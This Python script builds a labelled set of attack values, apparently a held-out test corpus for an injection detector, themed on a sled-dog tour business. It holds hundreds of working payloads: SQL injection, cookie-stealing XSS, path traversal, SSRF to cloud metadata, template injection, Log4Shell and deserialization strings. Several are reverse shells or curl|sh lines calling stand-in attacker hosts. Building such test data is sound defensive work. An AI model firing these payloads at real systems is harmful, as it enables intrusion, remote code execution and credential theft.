#!/usr/bin/env python3
"""Attack values for the dogsled held-out corpus (sled-dog kennel / mushing tours)."""
import json
import os
import random

SEED = 31102
rng = random.Random(SEED)

A = []  # (category, class, value) hand-written literals


def add(cat, cls, *vals):
    for v in vals:
        A.append((cat, cls, v))


# ---------------------------------------------------------------- sqli (literals)
add("sqli", "sqli-tautology",
    "Koda' OR '1'='1",
    "Blue' or 2>1 -- ",
    "DS-2025-0193' OR 'x'='x'#",
    "lake-loop') OR ('a'='a",
    "Tika\" OR \"\"=\"",
    "0 OR 1=1",
    "bib=14 or true--",
    "anna@kennel.example'||'1'='1",
    "Nanuk' oR 3 bEtWeEn 1 AnD 5-- -",
    "' or not false #",
)
add("sqli", "sqli-auth-bypass",
    "admin'-- ",
    "musher_erik'/*",
    "') or 1=1 limit 1 -- booking lookup",
    "x' OR username LIKE 'adm%'-- ",
)
add("sqli", "sqli-union",
    "Koda' UNION SELECT username, password_hash FROM staff_users-- -",
    "lake-loop' union all select null,null,table_name from information_schema.tables-- ",
    "14 UNION SELECT 1,@@version,3,4,5#",
    "-1' UNION SELECT card_number,expiry,cvv,NULL FROM payments WHERE '1'='1",
    "Blue')) UNION SELECT group_concat(column_name),2 FROM information_schema.columns WHERE table_name='bookings'-- ",
    "0 union distinct select sqlite_version(),name from sqlite_master--",
    "Tika' UnIoN/**/SeLeCt/**/email,pass/**/FrOm/**/guests-- ",
    "9999' union select 1,string_agg(usename,','),3 from pg_user--",
    "x' UNION SELECT NULL,LOAD_FILE('/etc/passwd'),NULL-- ",
    "2025-01-03' /*!50000UNION*/ /*!50000SELECT*/ 1,user(),3-- ",
    "Sisu'%0Aunion%0Aselect%0Aapi_key,2%0Afrom%0Aintegrations--",
    "trail 3' uNiOn(sElEcT(password)from(users))-- ",
)
add("sqli", "sqli-stacked",
    "Bolt'; DROP TABLE dogs;-- ",
    "Great tour!'); DELETE FROM reviews WHERE rating<5;--",
    "14; UPDATE race_results SET finish_time='00:59:00' WHERE bib=14--",
    "Luna'; INSERT INTO staff_users(username,password,role) VALUES('kennelhand','x','admin');--",
    "2; TRUNCATE TABLE mileage_log; --",
    "GIFT-2024'; EXEC xp_cmdshell 'whoami';--",
    "x'; COPY (SELECT '') TO PROGRAM 'curl attacker.example/s|sh';--",
    "Mira'; ALTER USER kennel_app WITH SUPERUSER;--",
    "1;shutdown--",
    "Raven'; CREATE TABLE pwn AS SELECT * FROM guests;--",
)
add("sqli", "sqli-time-blind",
    "Koda' AND SLEEP(5)-- -",
    "1 and (select sleep(7) from dual where database() like 'k%')",
    "Blue'; SELECT pg_sleep(10)--",
    "14'; WAITFOR DELAY '0:0:8'--",
    "lake' AND 1=(SELECT CASE WHEN (SUBSTR(user,1,1)='r') THEN 1 ELSE 1/0 END FROM dual)-- ",
    "x' OR IF(ASCII(SUBSTRING((SELECT password FROM staff_users LIMIT 1),1,1))>77,SLEEP(4),0)-- ",
    "2 AND BENCHMARK(20000000,MD5('dog'))",
    "Tika' and randomblob(300000000)-- ",
    "Sisu' || (select pg_sleep(6))::text || '",
    "1) AND SLEEP/**/(5) AND (1=1",
)
add("sqli", "sqli-boolean-blind",
    "Koda' AND SUBSTRING(@@version,1,1)='8",
    "Nala' AND (SELECT COUNT(*) FROM staff_users)>3-- ",
    "14 AND ASCII(LOWER(SUBSTR((SELECT table_name FROM information_schema.tables LIMIT 1),1,1)))>100",
    "Rocco' AND 'a'=(SELECT SUBSTR(password,1,1) FROM users WHERE username='admin')-- ",
    "3 AND EXISTS(SELECT * FROM payments)",
)
add("sqli", "sqli-error",
    "Koda' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))-- ",
    "1 AND updatexml(1,concat(0x3a,(select database())),1)",
    "Blue' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--",
    "x' AND 1=CAST((SELECT string_agg(passwd,':') FROM pg_shadow) AS int)-- ",
    "14 and (select 1 from(select count(*),concat(user(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
)
add("sqli", "sqli-order-by",
    "km desc, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)",
    "finish_time ASC,IF((SELECT 1 FROM staff_users WHERE username='admin' AND password LIKE 'a%'),SLEEP(5),1)",
    "(CASE WHEN (SELECT substr(version(),1,1))='P' THEN bib ELSE musher END)",
    "dog_name ORDER BY 9--",
)
add("sqli", "sqli-obfuscated",
    "Koda'/**/oR/**/1/**/like/**/1#",
    "Blue'%09or%091=1--%09",
    "Tika' %55NION %53ELECT password FROM users--",
    "1'+uni%0bon+se%0blect+1,2--",
    "Koda'\t||\t(SELECT\tusername\tFROM\tstaff_users\tLIMIT\t1)\t||'",
    "x'%2527%20or%25201=1--",
    "Luna＇ ＯＲ １＝１－－",
    "Bolt' OR 0x31=0x31 -- ",
    "Nanuk' or char(49)=char(49)-- ",
    "Raven'/*!OR*/'1'='1",
)
add("sqli", "sqli-out-of-band",
    "1; SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.oob.attacker.example\\\\a'))--",
    "Koda'; DECLARE @q varchar(99);SET @q='\\\\'+(SELECT TOP 1 name FROM sys.databases)+'.x.attacker.example\\s';EXEC master..xp_dirtree @q;--",
    "x' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '",
    "1 UNION SELECT 1,'<?php system($_GET[c]);?>',3 INTO OUTFILE '/var/www/html/uploads/dog.php'-- ",
)
add("sqli", "sqli-second-order",
    "Nanuk'),('evil','admin','x')-- ",
    "Dart' WHERE 1=1; UPDATE bookings SET price=0 WHERE ref LIKE 'DS-%'; --",
)

# ---------------------------------------------------------------- xss (literals)
add("xss", "xss-script-tag",
    "Loved the dogs! <script>fetch('https://attacker.example/c?'+document.cookie)</script>",
    "Koda <script src=//attacker.example/k.js></script>",
    "<ScRiPt>new Image().src='//203.0.113.9/x?c='+encodeURIComponent(document.cookie)</ScRiPt>",
    "Trail 3 report</textarea><script>alert(document.domain)</script>",
    "<script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8nK2RvY3VtZW50LmNvb2tpZSk='))</script>",
    "\"><script>location='//attacker.example/?'+localStorage.getItem('token')</script>",
    "<script type=\"module\">import('//attacker.example/m.mjs')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>document.write('<img src=//attacker.example/'+document.cookie+'>')</script>",
    "<script\n>alert`kennel`</script\n>",
)
add("xss", "xss-event-handler",
    "Blue <img src=x onerror=alert(document.cookie)>",
    "<svg onload=fetch('//attacker.example/'+document.cookie)>",
    "Great tour! <body onload=\"document.location='https://attacker.example/steal?c='+document.cookie\">",
    "<img src=\"sled.jpg\" onerror=\"this.src='//attacker.example/l?'+document.cookie\">",
    "<details open ontoggle=alert(1)>trail map</details>",
    "<input autofocus onfocus=alert(origin) value=\"booking ref\">",
    "<video><source onerror=\"javascript:alert(1)\"></video>",
    "<marquee onstart=confirm(1)>Koda is the best</marquee>",
    "<div onmouseover=\"alert('hi')\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<audio src=1 onerror=import('//attacker.example/p.js')>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iMg SrC=x OnErRoR=prompt(8)>",
    "<img src=x onerror=\"window['al'+'ert'](1)\">",
    "<body onpageshow=alert(1)>",
    "Frost <select autofocus onfocus=alert(1)><option>M</option></select>",
    "<form><button formaction=javascript:alert(1)>Book now</button></form>",
    "<img/src/onerror=alert(1)>",
    "<svg/onload=self[`al`+`ert`](document.domain)>",
    "<table background=x onerror=alert(1)>",
    "<object data=x onerror=alert(1)>",
)
add("xss", "xss-attribute-breakout",
    "Koda\" onmouseover=\"alert(1)",
    "lead dog' autofocus onfocus='alert(document.cookie)' x='",
    "\" style=\"animation-name:rotation\" onanimationstart=\"alert(1)",
    "x\"><img src=x onerror=alert(1)>",
    "Tika' onclick=fetch(`//attacker.example/${document.cookie}`) '",
    "\" accesskey=\"x\" onclick=\"alert(1)\" title=\"",
)
add("xss", "xss-javascript-uri",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)",
    "<a href=\"javascript:void(location='//attacker.example/?c='+document.cookie)\">see trail map</a>",
    "java\tscript:alert(1)",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">photos</a>",
    "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<a href=\"data:text/html,<script>alert(1)</script>\">Gift card</a>",
    "<object data=\"javascript:alert(1)\">",
    "[Trail map](javascript:alert(document.cookie))",
    "<embed src=\"javascript:alert(1)\">",
    "  javascript:/*-->*/alert(1)",
)
add("xss", "xss-encoded",
    "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3csvg onload=alert(1)\\x3e",
    "＜script＞alert(1)＜/script＞",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>",
    "<svg><script>&#97;lert(1)</script></svg>",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
)
add("xss", "xss-polyglot-context",
    "';alert(String.fromCharCode(88,83,83))//",
    "\";alert(document.cookie);//",
    "</script><script>alert(1)</script>",
    "Koda'}};alert(1);{{'",
    "${alert(1)}`;alert(1)//",
    "-->\"'><svg onload=alert(1)>",
    "'-alert(1)-'",
    "\\';alert(1);//",
)
add("xss", "xss-other-vectors",
    "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">",
    "<base href=\"https://attacker.example/\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import 'https://attacker.example/x.css';</style>",
    "<link rel=stylesheet href=//attacker.example/steal.css>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>trail</text></a></svg>",
    "<form action=https://attacker.example/login method=post><input name=password placeholder='Re-enter your kennel password'></form>",
    "<x contenteditable onblur=alert(1)>click me</x>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
)

# ---------------------------------------------------------------- cmdi (literals)
add("cmdi", "cmdi-separator",
    "lake-loop.gpx; cat /etc/passwd",
    "koda.jpg && id",
    "trail3 | nc 203.0.113.7 4444 -e /bin/sh",
    "export.csv; curl -s http://attacker.example/x.sh | sh",
    "Blue || wget -qO- 198.51.100.4/b | bash",
    "jan.csv;rm -rf /var/www/kennel/uploads",
    "mileage.pdf & ping -n 5 203.0.113.50 &",
    "x\ncat /etc/shadow",
    "Koda%0Aid",
    "photo.png%3Bwhoami",
    "2025-01-03; uname -a #",
    "results.csv | tee /tmp/.x; bash -i >& /dev/tcp/203.0.113.12/9001 0>&1",
    "gpx-v3;sleep 10",
    "tour.ics & powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "Sisu\r\nwhoami",
    "a.jpg;/usr/bin/id",
    "trail || ls -la /home",
    "Bolt | type C:\\Windows\\win.ini",
    "x & net user kennelsvc P@ss123 /add &",
    "dogs.csv;echo c3NoLXJzYSBBQUFB | base64 -d >> ~/.ssh/authorized_keys",
)
add("cmdi", "cmdi-substitution",
    "Koda $(id)",
    "lake-loop`whoami`.gpx",
    "$(curl attacker.example/$(hostname))",
    "photo_$(cat${IFS}/etc/passwd).jpg",
    "`sleep 8`",
    "Tika$(sleep${IFS}6)",
    "report-$(nslookup $(whoami).oob.attacker.example).pdf",
    "`wget -O /tmp/k 203.0.113.9/k; chmod +x /tmp/k; /tmp/k`",
    "$(printf '\\x69\\x64')",
    "x$(echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|sh)",
    "${IFS}$(id)",
    "trail.gpx$(ls${IFS}-la${IFS}/)",
)
add("cmdi", "cmdi-obfuscated",
    "koda.jpg;c'a't /e't'c/pa's'swd",
    "x;/???/c?t /???/p??s??",
    "a;w\\h\\o\\a\\m\\i",
    "jan.csv;$'\\x63\\x61\\x74' /etc/hostname",
    "x;{cat,/etc/passwd}",
    "a|c\"\"url attacker.example|s\"\"h",
    "Blue;${PATH:0:1}bin${PATH:0:1}id",
    "x;IFS=,;`cat<<<uname,-a`",
    "a;$(tr '[a-z]' '[A-Z]' <<< id | tr '[A-Z]' '[a-z]')",
    "x;cat</etc/passwd",
    "b;who$@ami",
    "gpx;/bin/b??h -c 'id'",
    "x%26%26id",
    "Koda%0a%2fbin%2fsh%20-c%20id",
)
add("cmdi", "cmdi-argument-injection",
    "--output=/var/www/html/shell.php http://attacker.example/s.txt",
    "-oProxyCommand=curl${IFS}attacker.example/p|sh",
    "--use-compress-program=sh -c 'id>/tmp/p'",
    "-e /bin/sh 203.0.113.20 4444",
    "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh",
    "-exec sh -c 'id' ;",
    "trail.gpx -X /var/www/html/x.php",
    "--post-file=/etc/passwd http://attacker.example/",
    "'-F' 'x=@/etc/passwd' 'http://attacker.example/'",
)
add("cmdi", "cmdi-windows",
    "koda.jpg & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe",
    "report.pdf | powershell -c \"IEX(iwr -useb http://attacker.example/r.ps1)\"",
    "x & cmd /c dir C:\\Users",
    "jan.csv && set",
    "a| p^o^w^e^r^s^h^e^l^l -nop -c whoami",
    "x & %COMSPEC% /c echo pwned > C:\\inetpub\\wwwroot\\p.txt",
    "Blue & bitsadmin /transfer j http://attacker.example/x.exe C:\\Users\\Public\\x.exe",
    "x & mshta http://attacker.example/run.hta",
)
add("cmdi", "cmdi-reverse-shell",
    "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.44\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
    "| perl -e 'use Socket;$i=\"198.51.100.8\";$p=443;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
    "& mkfifo /tmp/f; nc 203.0.113.3 8080 < /tmp/f | /bin/sh > /tmp/f 2>&1",
    "; php -r '$s=fsockopen(\"203.0.113.60\",9999);exec(\"sh <&3 >&3 2>&3\");'",
    "trail.gpx; socat tcp:198.51.100.77:5555 exec:bash,pty,stderr",
    "; awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.5/7777\";while(1){s|&getline c;while((c|&getline)>0)print|&s;close(c)}}'",
    "; ruby -rsocket -e'exit if fork;c=TCPSocket.new(\"203.0.113.81\",\"4433\");loop{c.gets.chomp!;IO.popen($_,\"r\"){|io|c.print io.read}}'",
    "| busybox nc 198.51.100.200 1337 -e sh",
    "; crontab -l | { cat; echo '* * * * * curl -s attacker.example/c|sh'; } | crontab -",
)

# ---------------------------------------------------------------- traversal (literals)
add("traversal", "traversal-dotdot",
    "../../../../etc/passwd",
    "../../../../../etc/shadow",
    "trails/2025/../../../../../../proc/self/environ",
    "photos/koda/../../../config/database.yml",
    "..\\..\\..\\..\\windows\\win.ini",
    "exports\\..\\..\\..\\inetpub\\wwwroot\\web.config",
    "../../../../var/log/nginx/access.log",
    "lake-loop-v3.gpx/../../../../root/.ssh/id_rsa",
    "/records/vaccines/2024/../../../../../etc/hosts",
    "../../.env",
    "../../../../home/kennel/.bash_history",
    "../../../app/config/secrets.json",
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "....\\\\....\\\\....\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts",
    "koda.jpg/../../../../../../proc/self/cmdline",
)
add("traversal", "traversal-encoded",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2E%2E/%2E%2E/%2E%2E/etc/shadow",
    "..%2f..%2f..%2f..%2fetc%2fhosts",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%252f..%252f..%252fwindows%252fwin.ini",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%c1%9c..%c1%9c..%c1%9cboot.ini",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "..%5c..%5c..%5cwindows%5csystem.ini",
    "．．／．．／．．／etc／passwd",
    "%2e%2e%5c%2e%2e%5c%2e%2e%5cinetpub%5cwwwroot%5cweb.config",
    "..%e0%80%af..%e0%80%afetc%e0%80%afpasswd",
    "photos%2f..%2f..%2f..%2f.git%2fconfig",
)
add("traversal", "traversal-absolute",
    "/etc/passwd",
    "/proc/self/environ",
    "C:\\Windows\\System32\\config\\SAM",
    "file:///etc/passwd",
    "\\\\198.51.100.3\\share\\payload.gpx",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "C:/inetpub/wwwroot/web.config",
    "/root/.aws/credentials",
)
add("traversal", "traversal-null-byte",
    "../../../../etc/passwd%00.gpx",
    "../../../../etc/passwd\\u0000.jpg",
    "koda.jpg%00../../../../etc/shadow",
    "..%2f..%2f..%2fetc%2fpasswd%00.csv",
)
add("traversal", "traversal-wrapper",
    "php://filter/convert.base64-encode/resource=../config.php",
    "php://filter/read=string.rot13/resource=index.php",
    "zip://uploads/trail.zip%23shell.php",
    "phar://uploads/koda.jpg/x",
    "expect://id",
)

# ---------------------------------------------------------------- ssrf (literals)
add("ssrf", "ssrf-cloud-metadata",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
)
add("ssrf", "ssrf-internal",
    "http://127.0.0.1:8080/admin/users",
    "http://localhost/server-status",
    "http://localhost:6379/",
    "http://10.0.0.5:9200/_cat/indices",
    "http://192.168.1.1/cgi-bin/luci",
    "http://172.16.0.10:2375/containers/json",
    "https://kennel-db.internal:5984/_all_dbs",
    "http://127.0.0.1:10250/pods",
    "http://internal-api.svc.cluster.local/v1/secrets",
    "http://localhost:8500/v1/agent/self",
    "http://127.1:22/",
    "http://0:8000/debug",
)
add("ssrf", "ssrf-ip-encoding",
    "http://2130706433/admin",
    "http://0x7f000001/",
    "http://0177.0.0.1/",
    "http://017700000001:8080/",
    "http://[::1]/admin",
    "http://[::ffff:127.0.0.1]/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://169.254.43518/latest/meta-data/",
    "http://0251.0376.0251.0376/",
    "http://①②⑦.⓪.⓪.①/admin",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/",
)
add("ssrf", "ssrf-redirect-dns",
    "http://127.0.0.1.nip.io/admin",
    "http://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/",
    "https://trails.example.org@127.0.0.1/admin",
    "http://127.0.0.1#@trails.example.org/gpx",
    "http://rebind.attacker.example/latest/meta-data/",
    "https://attacker.example/302.php?u=http%3A%2F%2Flocalhost%3A8080%2Factuator%2Fenv",
    "http://localtest.me:8080/admin",
    "http://spoofed.attacker.example\\@127.0.0.1/",
)
add("ssrf", "ssrf-scheme",
    "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ASAVE%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "file:///proc/self/environ",
    "ftp://10.0.0.8/backups/db.sql",
    "ldap://127.0.0.1:389/dc=kennel,dc=local",
    "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E%0D%0A",
    "jar:http://attacker.example/x.jar!/",
    "netdoc:///etc/passwd",
    "tftp://203.0.113.31/boot.cfg",
    "sftp://attacker.example:11111/",
)

# ---------------------------------------------------------------- code (literals)
add("code", "ssti-jinja",
    "Hi {{ guest_name }}! {{ config.items() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "Dear {{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
    "{{ lipsum.__globals__['os'].popen('curl attacker.example/j|sh').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}",
    "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "{{7*'7'}} {{ namespace.__init__.__globals__.os.environ }}",
    "{{ url_for.__globals__.current_app.config['SECRET_KEY'] }}",
)
add("code", "ssti-other",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($r=$class.inspect('java.lang.Runtime').type.getRuntime().exec('whoami'))$r",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{this.constructor.constructor \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}",
    "<%= `id` %>",
    "<%= File.read('/etc/passwd') %>",
    "{php}system('id');{/php}",
    "{system('cat /etc/passwd')}",
    "#{7*7}#{''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "{{= global.process.mainModule.require('child_process').execSync('id') }}",
    "<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>",
    "${{<%[%'\"}}%\\.",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "{{range.constructor(\"return global.process.env\")()}}",
    "#{session.setAttribute(\"x\", \"\".getClass().forName(\"java.lang.Runtime\"))}",
)
add("code", "expression-language",
    "${applicationScope}",
    "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}",
    "${''.getClass().forName('java.lang.System').getenv()}",
    "#{request.getClass().getClassLoader()}",
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}",
    "${pageContext.request.getSession().setAttribute('admin',true)}",
)
add("code", "log4shell",
    "${jndi:ldap://attacker.example:1389/Koda}",
    "Great tour ${jndi:rmi://203.0.113.66/obj}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.5/x}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/z}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/b}",
    "booking ref ${jndi:ldaps://attacker.example/${sys:java.version}}",
)
add("code", "eval-injection",
    "__import__('os').system('id')",
    "require('child_process').exec('curl attacker.example/n|sh')",
    "1;phpinfo();",
    "'.system('id').'",
    "\");system(\"cat /etc/passwd\");//",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "process.binding('spawn_sync').spawn({file:'sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:1}]})",
    "${@system('id')}",
    "assert(system('id'))",
    "';exec('import os; os.system(\"id\")')#",
    "Runtime.getRuntime().exec(\"sh -c id\")",
    "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
)
add("code", "prototype-pollution",
    "{\"__proto__\":{\"isAdmin\":true}}",
    "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}",
    "__proto__[isAdmin]=true",
    "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//",
    "{\"dog\":\"Koda\",\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}",
    "__proto__.toString=1",
    "{\"__proto__\":{\"sourceURL\":\"\\u2028\\u2029\\nglobal.process.mainModule.require('child_process').execSync('id')\"}}",
)
add("code", "csv-formula",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://attacker.example/?leak=\"&A1&B1,\"Click for trail map\")",
    "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/x)'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://attacker.example/c?\"&A2)",
    "=IMPORTXML(CONCAT(\"https://attacker.example/x?\",B2:B40),\"//a\")",
    "\t=1+2;=cmd|'/c whoami'!A1",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "Koda,24,=HYPERLINK(\"http://203.0.113.4/x\",\"details\")",
    "=IMAGE(\"https://attacker.example/p.png?\"&A1)",
)
add("code", "xxe",
    "<?xml version=\"1.0\"?><!DOCTYPE gpx [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><gpx><trk><name>&x;</name></trk></gpx>",
    "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]><r/>",
    "<?xml version=\"1.0\"?><!DOCTYPE t [<!ENTITY e SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><trail>&e;</trail>",
    "<!DOCTYPE foo [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % w \"<!ENTITY &#x25; s SYSTEM 'http://attacker.example/?%f;'>\">%w;%s;]>",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE booking SYSTEM \"http://198.51.100.9/b.dtd\"><booking>x</booking>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>",
    "<!DOCTYPE lolz [<!ENTITY a \"dogdogdog\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><x>&d;</x>",
    "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY p SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><svg><text>&p;</text></svg>",
)
add("code", "deserialization",
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "a:1:{i:0;O:15:\"Monolog\\Handler\":1:{s:3:\"cmd\";s:2:\"id\";}}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
    "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
    "cos\nsystem\n(S'id'\ntR.",
    "!!python/object/apply:os.system ['curl attacker.example/y|sh']",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]}}",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "--- !ruby/object:Gem::Installer\ni: x\n",
)

# ---------------------------------------------------------------- nosqli (literals)
add("nosqli", "nosqli-operator",
    "{\"$ne\": null}",
    "{\"$gt\": \"\"}",
    "{\"username\": \"admin\", \"password\": {\"$ne\": \"x\"}}",
    "{\"dog\": {\"$regex\": \"^K\"}, \"owner\": {\"$exists\": true}}",
    "{\"$or\": [{\"role\": \"admin\"}, {\"role\": {\"$ne\": \"guest\"}}]}",
    "{\"bib\": {\"$in\": [1,2,3,4,5,6,7,8,9,10,11,12,13,14]}, \"paid\": {\"$ne\": true}}",
    "{\"email\": {\"$regex\": \".*\"}, \"password\": {\"$regex\": \"^a\"}}",
    "{\"$nin\": [\"\"]}",
    "{\"price\": {\"$lt\": 1}}",
    "{\"ref\": \"DS-2025-0193\", \"$comment\": \"x\", \"status\": {\"$ne\": \"cancelled\"}}",
)
add("nosqli", "nosqli-param",
    "password[$ne]=koda",
    "username[$regex]=^adm&password[$gt]=",
    "bib[$gt]=0",
    "email[$exists]=true",
    "login[$nin][]=guest",
    "password%5B%24ne%5D=x",
)
add("nosqli", "nosqli-js",
    "{\"$where\": \"this.role == 'admin'\"}",
    "'; return true; var x='",
    "{\"$where\": \"sleep(5000) || true\"}",
    "Koda' || this.password.match(/^a/) || 'x'=='",
    "{\"$expr\": {\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}}",
    "1; while(true){}",
